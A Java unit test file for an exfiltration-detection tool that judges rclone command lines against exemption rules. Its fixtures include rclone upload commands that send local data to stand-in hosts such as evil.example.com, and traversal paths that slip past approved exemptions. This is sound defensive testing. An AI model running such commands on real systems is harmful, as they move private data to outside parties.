package exfilwatch.detection;

import static exfilwatch.detection.ExceptionFiles.content;
import static exfilwatch.detection.ExceptionFiles.exception;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import exfilwatch.telemetry.Event;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ExemptionsTest {

  /** The day of all test events. */
  private static final String DAY = "2023-11-14";

  private static final String JOB =
      "rclone.exe copy D:\\Data :s3,provider=Wasabi,access_key_id=KEY1,secret_access_key=s:bkt/a";

  @TempDir private Path folder;

  private Judgement judge(String commandLine, String... exceptions) throws Exception {
    return judge(Events.windows(commandLine).start(), exceptions);
  }

  private Judgement judge(Event start, String... exceptions) throws Exception {
    return content(folder, exceptions).compile().judge(start);
  }

  private static boolean isSilent(Judgement judgement) {
    assertThat(judgement.exempted().isEmpty()).isEqualTo(judgement.suspicion() != null);
    return judgement.suspicion() == null;
  }

  @Test
  void silencesTheApprovedJobAndSaysWhich() throws Exception {
    Judgement judgement =
        judge(JOB, exception("Other", "user.name: bob"), exception("Mine", "user.name: ann"));
    assertThat(judgement.suspicion()).isNull();
    assertThat(judgement.exempted())
        .containsExactly(
            new Exemption("Mine", "Mine", "it@example.com", LocalDate.of(2099, 12, 31), ""));
    assertThat(judge(JOB).suspicion()).isNotNull();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "exfil.command: copy ~ true",
        "exfil.command: sync ~ false",
        "exfil.direction: upload ~ true",
        "exfil.dry_run: false ~ true",
        "exfil.dry_run: true ~ false",
        "exfil.source.path: 'd:\\data' ~ true",
        "exfil.source.kind: local_path ~ true",
        "exfil.destination.remote: ':s3' ~ true",
        "exfil.destination.backend: s3 ~ true",
        "exfil.destination.provider: Wasabi ~ true",
        "exfil.destination.bucket: bkt ~ true",
        "exfil.destination.path: bkt/a ~ true",
        "exfil.destination.account: KEY1 ~ true",
        "exfil.destination.access_key_id|cased: KEY1 ~ true",
        "exfil.destination.access_key_id|cased: key1 ~ false",
        "exfil.destination.access_key_id: KEY2 ~ false",
        "user.name: ann ~ true",
        "User: CORP\\ann ~ true",
        "host.name: WS1 ~ true",
        "process.executable|startswith: 'C:\\Users\\' ~ true",
        "exfil.targeted.categories: all ~ true",
      })
  void matchesOnFieldsOfTheEventAndOfTheCommandLine(String selection, boolean silent)
      throws Exception {
    assertThat(isSilent(judge(JOB, exception("E", selection)))).isEqualTo(silent);
  }

  @ParameterizedTest
  @CsvSource({
    "windows, rclone.exe --config C:\\a\\r.conf copy C:\\x nas:y, true",
    "windows, rclone.exe copy C:\\x nas:y --config=C:\\a\\r.conf, true",
    "windows, rclone.exe copy C:\\x nas:y \"--config=C:\\a\\r.conf\", true",
    "windows, rclone.exe copy C:\\x nas:y --config C:/a/./b/../R.CONF, true",
    "linux, env RCLONE_CONFIG=\"C:\\a\\r.conf\" rclone copy /x nas:y, true",
    "windows, rclone.exe copy C:\\x nas:y --config C:\\a\\r.conf --config C:\\evil.conf, false",
    "windows, rclone.exe copy C:\\x nas:y --config=C:\\a\\..\\evil\\r.conf, false",
    "windows, rclone.exe copy C:\\x nas:y --log-file C:\\a\\r.conf, false",
    "windows, rclone.exe copy C:\\x nas:y, false",
  })
  void knowsTheConfigurationInEveryForm(String os, String commandLine, boolean silent)
      throws Exception {
    Events start = os.equals("linux") ? Events.linux(commandLine) : Events.windows(commandLine);
    String selection = "exfil.config_path: 'C:\\a\\r.conf'\nexfil.destination.remote: nas";
    assertThat(isSilent(judge(start.start(), exception("E", selection)))).isEqualTo(silent);
  }

  /** A configured remote's name stands for its account only while no option turns it elsewhere. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "backup:b ~ ~  true",
        "backup:b --s3-chunk-size 64M ~ ~  true",
        "backup,endpoint=evil.example.com:b ~ ~  false",
        "backup:b --s3-endpoint https://evil.example.com ~ ~  false",
        "backup,access_key_id=EVIL:b ~ ~  false",
        "backup,type=sftp,host=evil.example.com:b ~ ~  false",
        "backup,type=s3,endpoint=s3.example.com:b ~ exfil.destination.endpoint: s3.example.com"
            + " ~ false",
        "backup:b --s3-endpoint s3.example.com ~ exfil.destination.redirected_by: endpoint ~ true",
      })
  void aRemoteThatIsTurnedElsewhereIsNotTheApprovedOne(
      String destination, String more, boolean silent) throws Exception {
    String selection = "exfil.destination.remote: backup\n" + Objects.requireNonNullElse(more, "");
    assertThat(isSilent(judge("rclone.exe copy C:\\x " + destination, exception("E", selection))))
        .isEqualTo(silent);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "rclone.exe copy D:\\Backup\\day :s3,access_key_id=KEY1:b/x ~ true",
        "rclone.exe copy \\\\?\\D:\\Backup\\day :s3,access_key_id=KEY1:b/x ~ true",
        "rclone.exe copy D:\\Backup\\..\\HR :s3,access_key_id=KEY1:b/x ~ false",
        "rclone.exe copy D:/Backup/../HR :s3,access_key_id=KEY1:b/x ~ false",
        "rclone.exe copy D:\\Backup\\day :s3,access_key_id=KEY2:b/x ~ false",
        "rclone.exe copy D:\\Backup\\day mega:x --s3-access-key-id KEY1 ~ false",
        "rclone.exe copy :s3,access_key_id=KEY1:b/x mega:D:\\Backup\\ ~ false",
      })
  void whoApprovesByAccountAndSourceGetsNothingElse(String commandLine, boolean silent)
      throws Exception {
    String selection =
        "exfil.destination.account: KEY1\nexfil.source.path|startswith: 'D:\\Backup\\'";
    assertThat(isSilent(judge(commandLine, exception("E", selection)))).isEqualTo(silent);
  }

  @Test
  void anIncidentStaysWithTheRulesThatAreNotNamed() throws Exception {
    String named =
        exception("E", "[rclone_exfiltration, rclone_kql_seed]", "2099-12-31", "User: ann");
    Judgement judgement = judge(JOB, named);
    assertThat(Objects.requireNonNull(judgement.suspicion()).rules())
        .extracting(RuleHit::title)
        .containsExactly("Potential Data Exfiltration via Rclone");
    assertThat(judgement.exempted()).hasSize(1);
  }

  @Test
  void eachExceptionCountsAStartOnce() throws Exception {
    assertThat(judge(JOB, exception("A", "User: ann"), exception("B", "host.name: ws1")).exempted())
        .extracting(Exemption::title)
        .containsExactly("A", "B");
  }

  @ParameterizedTest
  @CsvSource({DAY + ", true", "2023-11-15, true", "2023-11-13, false"})
  void appliesThroughItsLastDayByTheTimeOfTheEvent(String expiry, boolean silent) throws Exception {
    assertThat(isSilent(judge(JOB, exception("E", "any", expiry, "User: ann")))).isEqualTo(silent);
  }

  @Test
  void anExceptionMayStandAmongTheRulesAndAPlainFilterNeedsNoOwner() throws Exception {
    String plain =
        exception("Plain", "User: bob")
            .replace("owner: it@example.com\n", "")
            .replace("expiry: 2099-12-31\n", "");
    Path rules =
        Files.writeString(folder.resolve("r.yml"), exception("E", "User: ann") + "---\n" + plain);
    DetectionContent content = DetectionContent.load(List.of(ShippedRules.FOLDER, rules));
    assertThat(content.exemptions()).extracting(Exemption::title).containsExactly("E");
    assertThat(isSilent(content.compile().judge(Events.windows(JOB).start()))).isTrue();
  }

  @Test
  void aFolderMayBeEmpty() throws Exception {
    DetectionContent content =
        DetectionContent.load(
            List.of(ShippedRules.FOLDER), List.of(Files.createDirectory(folder.resolve("none"))));
    assertThat(content.exemptions()).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "owner: it@example.com; ~ ; ~ :1: the key 'owner' is missing; add 'owner:'",
        "expiry: 2099-12-31; ~ ; ~ :1: the key 'expiry' is missing; add 'expiry:'",
        "owner: it@example.com ~ owner: ' ' ~ :3: owner: is empty; write who or what it is",
        "2099-12-31 ~ soon ~ :2: expiry: 'soon' isn't a date; write it as 2027-06-30",
        "2099-12-31 ~ 2099-02-30 ~ :2: expiry: '2099-02-30' isn't a date; write it as 2027-06-30",
        "condition: not approved ~ condition: approved ~ silences a start of which nothing is"
            + " known",
        "condition: not approved ~ condition: not (not approved) ~ silences a start of which"
            + " nothing",
        "User: ann ~ {} ~ the map is empty; write what to look for",
        "User: ann ~ User: '*' ~ silences every start; write a selection with values",
        "User: ann ~ User|re: '.' ~ silences every start",
        "User: ann ~ process.pid|gte: 0 ~ silences every start",
        "User: ann ~ User|exists: true ~ silences every start",
        "User: ann ~ exfil.direction|neq: download ~ silences a start of which nothing is known",
        "User: ann ~ exfil.destination.buckt: x ~ did you mean 'exfil.destination.bucket'?",
        "rules: any ~ rules: [nope] ~ there is no rule with the id or name 'nope'",
        "process_creation ~ network_connection ~ an exception is for process starts",
        "filter: ~ detection: ~ is no exception; write a Sigma filter, with the key 'filter'",
      })
  void whatCanNotBeAnExceptionIsToldByFileAndLine(String replaced, String by, String problem)
      throws IOException {
    String text =
        exception("E", "User: ann")
            .replace(
                replaced.replace(";", "\n"), Objects.requireNonNullElse(by, "").replace(";", ""));
    if (problem.contains("network") || by.contains("network")) {
      text = text.replace("User: ann", "Initiated: 'true'");
    }
    String broken = text;
    assertThatThrownBy(() -> content(folder, broken))
        .isInstanceOf(ContentException.class)
        .message()
        .startsWith(folder.resolve("e.yml").toString())
        .contains(problem);
  }

  @Test
  void theCommandLineIsReadOnlyWhenSomebodyAsks() {
    assertThat(
            CommandLines.mayBeRclone(
                Events.windows("x.exe /help").name("x.exe").executable("x").start()))
        .isFalse();
    assertThat(CommandLines.mayBeRclone(Events.windows("x /help").start())).isTrue();
    StartDocument other =
        new StartDocument(
            Events.windows("x /help").name("x.exe").executable("x").start(),
            new GrammarConfidence());
    assertThat(other.field("exfil.command")).isNull();
  }

  @ParameterizedTest
  @CsvSource({
    "C:\\a\\..\\b, C:\\b",
    "C:/a//b/./c, C:\\a\\b\\c",
    "C:\\.., C:\\",
    "C:\\, C:\\",
    "C:, C:",
    "\\\\?\\C:\\a, C:\\a",
    "\\\\?\\UNC\\fs\\s, \\\\fs\\s",
    "\\\\fs\\s\\..\\t, \\\\fs\\t",
    "//fs/s, \\\\fs\\s",
    "/a/../../etc, /etc",
    "a/../../b, ../b",
    "bkt/a/../c, bkt/c",
    "/, /",
  })
  void pathsAreResolvedByTheirText(String path, String expected) {
    assertThat(Paths.resolved(path)).isEqualTo(expected);
    assertThat(Paths.resolved(expected)).isEqualTo(expected);
  }
}
